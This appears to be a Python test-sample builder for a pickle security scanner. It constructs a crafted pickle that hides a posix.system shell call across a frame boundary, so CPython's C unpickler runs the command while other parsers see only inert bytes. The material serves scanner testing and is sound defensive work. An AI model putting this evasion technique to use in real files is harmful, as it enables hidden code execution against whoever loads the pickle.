"""An argument crosses the end of its frame: CPython's C unpickler runs it, others see bytes."""

from __future__ import annotations

from malicious_samples.recipes import shell
from tests.builder import Pickle


def build(canary: str) -> bytes:
    hidden = bytes(Pickle(0).global_("posix", "system").unicode(shell(canary)).tuple1().reduce())
    p = Pickle(5).none().unicode(b"a" * (8192 * 16 - 17)).pop().mark().frame(2)
    p.raw(b"B\x07\x01\x00\x00\0\0").raw((hidden + b"(").ljust(261, b"N"))
    return p.pop_mark().finish()
